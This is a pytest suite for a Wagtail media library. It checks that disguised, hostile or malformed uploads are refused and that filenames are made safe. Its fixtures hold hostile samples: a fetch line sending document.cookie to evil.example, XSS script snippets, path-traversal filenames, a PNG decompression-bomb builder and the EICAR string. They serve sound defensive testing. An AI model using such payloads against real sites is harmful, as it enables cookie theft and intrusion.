"""Hostile and malformed uploads through the admin's real upload views: refused with a clear message, nothing
stored; good files get their metadata; filenames are made safe; the virus-scan hook is called."""

import hashlib
import io
import struct
import zlib

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from wagtail.models import Collection, ReferenceIndex

from media_library.factories import WEBVTT_SAMPLE, DocumentFactory, ImageFactory, PublicationPageFactory
from media_library.files import pdf_page_count
from media_library.models import CustomDocument, CustomImage
from media_library.pdf import Section, make_pdf, make_report_pdf
from media_library.services import media_upload

pytestmark = pytest.mark.django_db

PDF = make_pdf("988 Crisis Hotline", ["A brief for CIT coordinators."])
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
JS = b"fetch('https://evil.example/steal?c=' + document.cookie);\n"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'


def upload_document(client, name: str, content: bytes, **extra):
    return client.post(
        reverse("wagtaildocs:add_multiple"),
        {"files[]": SimpleUploadedFile(name, content), "title": "Upload", **extra},
    ).json()


def upload_image(client, name: str, content: bytes):
    return client.post(reverse("wagtailimages:add_multiple"), {"files[]": SimpleUploadedFile(name, content)}).json()


def png(width: int, height: int) -> bytes:
    """A valid PNG header of any size with almost no pixel data: how decompression bombs look on upload."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\x00" * 64))
        + chunk(b"IEND", b"")
    )


# --- documents: refused -----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("report.pdf", HTML, "content is not a recognised file"),
        ("report.pdf", JS, "content is not a recognised file"),
        ("report.pdf", SVG, "content is not a recognised file"),
        ("report.pdf", png(10, 10), "content is a .png file"),
        ("video.mp4", PDF, "content is a .pdf file"),
        ("notes.txt", HTML, "HTML or script"),
        ("notes.txt", b"  \n<svg onload=alert(1)>", "HTML or script"),
        ("data.csv", b"name,url\nx,javascript:alert(1)\n", "HTML or script"),
        ("notes.txt", b"caf\xe9 latin-1", "UTF-8"),
        ("notes.txt", b"binary\x00data", "not a text file"),
        ("page.html", HTML, "cannot be uploaded"),
        ("image.svg", SVG, "cannot be uploaded"),
        ("report.pdf", b"", "empty"),
        ("captions.vtt", b"1\n00:00:00,000 --> 00:00:04,000\nHello\n", "must start with the line 'WEBVTT'"),
        ("captions.vtt", b"WEBVTT\n\n00:00:00,000 --> 00:00:04,000\nHello\n", "Line 3: cue timing"),
        ("captions.vtt", b"WEBVTT\n\n00:00:09.000 --> 00:00:04.000\nHello\n", "Line 3: a cue must end after"),
        ("captions.vtt", b"WEBVTT\n\n00:00:61.000 --> 00:01:04.000\nHello\n", "Line 3: cue timing"),
        ("captions.vtt", b"WEBVTT\n\nno cues here\n", "no cues"),
        ("captions.vtt", b"WEBVTT\n\n00:00:00.000 --> 00:00:04.000\n\xff\xfe\n", "UTF-8"),
    ],
    ids=lambda value: value if isinstance(value, str) and len(value) < 20 else None,
)
def test_hostile_or_malformed_document_is_refused(admin_client, name, content, message):
    result = upload_document(admin_client, name, content)
    assert result["success"] is False
    assert message in result["error_message"]
    assert not CustomDocument.objects.exists()


def test_document_over_its_type_limit_is_refused(admin_client, settings):
    settings.MEDIA_UPLOAD_MAX_BYTES = {**settings.MEDIA_UPLOAD_MAX_BYTES, "document": len(PDF) - 1}
    result = upload_document(admin_client, "report.pdf", PDF)
    assert result["success"] is False
    assert "too large (" in result["error_message"]
    assert "document files may be at most" in result["error_message"]
    assert not CustomDocument.objects.exists()


def test_single_upload_form_refuses_html_disguised_as_pdf(admin_client):
    response = admin_client.post(
        reverse("wagtaildocs:add"),
        {
            "title": "Report",
            "file": SimpleUploadedFile("report.pdf", HTML),
            "collection": Collection.objects.first().pk,
        },
    )
    assert response.status_code == 200
    assert "content is not a recognised file" in response.content.decode()
    assert not CustomDocument.objects.exists()


def eicar_scanner(upload, name):
    """A stand-in scanner with the real hook signature: refuses the EICAR antivirus test string."""
    if b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE" in upload.read():
        raise ValidationError(f"{name} contains a virus (EICAR test signature).")


def test_virus_scan_hook_refuses_what_the_scanner_flags(admin_client, settings):
    settings.MEDIA_VIRUS_SCANNER = f"{__name__}.eicar_scanner"
    eicar = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
    result = upload_document(admin_client, "notes.txt", eicar)
    assert result == {"success": False, "error_message": "notes.txt contains a virus (EICAR test signature)."}
    assert upload_document(admin_client, "clean.txt", b"Plain notes.\n")["success"] is True


# --- documents: accepted, with metadata ---------------------------------------------------------------------------


def test_pdf_upload_records_sniffed_type_checksum_and_pages(admin_client, members_collection):
    result = upload_document(admin_client, "brief.pdf", PDF, collection=members_collection.pk)
    assert result["success"] is True
    document = CustomDocument.objects.get()
    assert document.collection == members_collection  # the editor's choice of collection on upload
    assert document.mime_type == "application/pdf"
    assert document.page_count == 1
    assert document.file_size == len(PDF)
    assert document.sha256 == hashlib.sha256(PDF).hexdigest()


@pytest.mark.parametrize(
    ("name", "content", "mime", "folder"),
    [
        ("captions.vtt", b"\xef\xbb\xbf" + WEBVTT_SAMPLE.encode(), "text/vtt", "recordings"),
        ("meeting.mp4", b"\x00\x00\x00\x18ftypmp42" + b"\x00" * 64, "video/mp4", "recordings"),
        ("roster.csv", "agency,state\nCondado de Béxar,TX\n".encode(), "text/csv", "documents"),
    ],
)
def test_allowed_types_are_accepted_and_filed(admin_client, name, content, mime, folder):
    assert upload_document(admin_client, name, content)["success"] is True
    document = CustomDocument.objects.get()
    assert document.mime_type == mime
    assert document.page_count is None
    assert document.file.name == f"{folder}/{name}"


# --- filenames -------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "stored"),
    [
        ("../../../etc/passwd.pdf", "documents/passwd.pdf"),
        ("..\\..\\windows\\report.pdf", "documents/report.pdf"),
        ("report\x00.exe.pdf", "documents/report.exe.pdf"),
        ("Guía de señas — 988.pdf", "documents/Guia_de_senas_-_988.pdf"),
        ("报告.pdf", "documents/BaoGao.pdf"),
        ("x" * 300 + ".pdf", "documents/" + "x" * 60 + ".pdf"),
        ("\u202egnp.pdf", "documents/gnp.pdf"),
    ],
)
def test_filenames_are_made_safe(admin_client, name, stored):
    # Wagtail's uploader titles a file after its name; the title is the editor's, the stored name is ours.
    assert upload_document(admin_client, name, PDF)["success"] is True
    document = CustomDocument.objects.get()
    assert document.file.name == stored
    assert admin_client.get(document.url).status_code == 200


def test_factory_paths_are_sanitised_too():
    document = DocumentFactory(file=SimpleUploadedFile("../../secret.pdf", PDF))
    assert document.file.name == "documents/secret.pdf"


def test_uploads_from_code_get_the_admin_forms_checks_and_metadata():
    """media_upload (seed_demo's path) is the admin upload form: the same refusals, the same recorded fields."""
    collection = Collection.get_first_root_node()
    with pytest.raises(ValidationError, match="content is not a recognised file"):
        media_upload(CustomDocument, title="Fake", filename="report.pdf", content=HTML, collection=collection)
    document = media_upload(CustomDocument, title="Brief", filename="../brief.pdf", content=PDF, collection=collection)
    assert document.file.name == "documents/brief.pdf"
    assert (document.file_size, document.mime_type, document.page_count) == (len(PDF), "application/pdf", 1)
    assert document.sha256 == hashlib.sha256(PDF).hexdigest() and document.file_hash
    with pytest.raises(ValidationError, match="too many pixels"):
        media_upload(
            CustomImage,
            title="Bomb",
            description="x",
            filename="b.png",
            content=png(20000, 20000),
            collection=collection,
        )


def test_replacing_a_file_from_code_measures_the_new_one_and_a_refused_file_loses_nothing():
    """media_upload(instance=...) is the admin's replace-file path: checked, measured again, old file deleted; a
    refused replacement leaves the document and its file as they were."""
    collection = Collection.get_first_root_node()
    document = media_upload(CustomDocument, title="Brief", filename="brief.pdf", content=PDF, collection=collection)
    old_name, old_sha = document.file.name, document.sha256
    with pytest.raises(ValidationError, match="content is not a recognised file"):
        media_upload(
            CustomDocument, instance=document, title="Brief", filename="b.pdf", content=HTML, collection=collection
        )
    document = CustomDocument.objects.get(pk=document.pk)
    assert (document.file.name, document.sha256) == (old_name, old_sha)
    with document.open_file() as handle:
        assert handle.read() == PDF

    longer = make_report_pdf("Brief", [Section("Deflection", ["Treatment instead of arrest. " * 400])])
    replaced = media_upload(
        CustomDocument, instance=document, title="Brief", filename="brief.pdf", content=longer, collection=collection
    )
    assert replaced.pk == document.pk and CustomDocument.objects.count() == 1
    replaced = CustomDocument.objects.get(pk=document.pk)
    assert (replaced.file_size, replaced.page_count) == (len(longer), pdf_page_count(io.BytesIO(longer)))
    assert replaced.page_count > 1
    assert replaced.sha256 == hashlib.sha256(longer).hexdigest()
    assert replaced.file_hash == hashlib.sha1(longer).hexdigest()  # noqa: S324 (Wagtail's)
    with replaced.open_file() as handle:
        assert handle.read() == longer
    assert replaced.file.name == old_name or not replaced.file.storage.exists(old_name)  # no orphaned file


# --- images -----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("photo.png", SVG, "Not a valid .png image"),
        ("photo.jpg", HTML, "Not a valid .jpeg image"),
        ("photo.png", b"", "empty"),
        ("photo.svg", SVG, "Not a supported image format"),
        ("bomb.png", png(20000, 20000), "too many pixels"),
    ],
)
def test_hostile_images_are_refused(admin_client, name, content, message):
    result = upload_image(admin_client, name, content)
    assert result["success"] is False
    assert message.lower() in result["error_message"].lower()
    assert not CustomImage.objects.exists()


def test_oversized_image_is_refused(admin_client, settings):
    settings.WAGTAILIMAGES_MAX_UPLOAD_SIZE = 100
    result = upload_image(admin_client, "photo.png", png(64, 64) + b"\x00" * 200)
    assert result["success"] is False
    assert "too big" in result["error_message"]
    assert not CustomImage.objects.exists()


# --- admin: usage report ----------------------------------------------------------------------------------------


def test_usage_reports_show_where_media_is_used(admin_client, publication_index):
    publication = PublicationPageFactory(parent=publication_index, title="Deflection field guide")
    publication.cover_image = ImageFactory()
    publication.save_revision().publish()
    ReferenceIndex.create_or_update_for_object(publication)  # normally a queued task (Wagtail 8)
    document_usage = admin_client.get(reverse("wagtaildocs:document_usage", args=[publication.document_id]))
    assert document_usage.status_code == 200
    assert "Deflection field guide" in document_usage.content.decode()
    image_usage = admin_client.get(reverse("wagtailimages:image_usage", args=[publication.cover_image_id]))
    assert image_usage.status_code == 200
    assert "Deflection field guide" in image_usage.content.decode()


def test_hostile_name_without_a_title_is_stored_safely(admin_client):
    # Wagtail's uploader titles a document after the raw file name when no title is sent.
    response = admin_client.post(
        reverse("wagtaildocs:add_multiple"), {"files[]": SimpleUploadedFile("x\x00" * 200 + ".pdf", PDF)}
    )
    assert response.status_code == 200
    assert response.json()["success"] is True
    assert CustomDocument.objects.get().file.name == "documents/" + "x" * 60 + ".pdf"
